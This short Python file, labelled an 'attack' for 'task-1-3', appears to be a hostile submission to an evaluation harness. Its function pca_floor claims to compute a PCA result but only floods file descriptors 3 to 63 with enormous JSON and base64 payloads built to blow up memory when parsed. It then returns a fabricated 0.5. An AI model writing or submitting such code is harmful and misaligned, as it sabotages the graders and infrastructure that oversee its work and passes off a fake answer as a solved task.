# attack: replies whose JSON takes sixty times as much memory once it is read, as a line and as an answer's data
# cell: task-1-3
import base64
import os


def write(descriptor, words):
    try:
        while words:
            words = words[os.write(descriptor, words) :]
    except OSError:
        pass


def pca_floor(images, k):
    many = b"{}," * 9_000_000
    for descriptor in range(3, 64):
        write(descriptor, b'{"task": "1.3", "error": [' + many + b"{}]}\n")
        write(descriptor, b'{"task": "1.3", "found": "' + base64.b64encode(b"[" + many + b"{}]") + b'"}\n')
    return 0.5
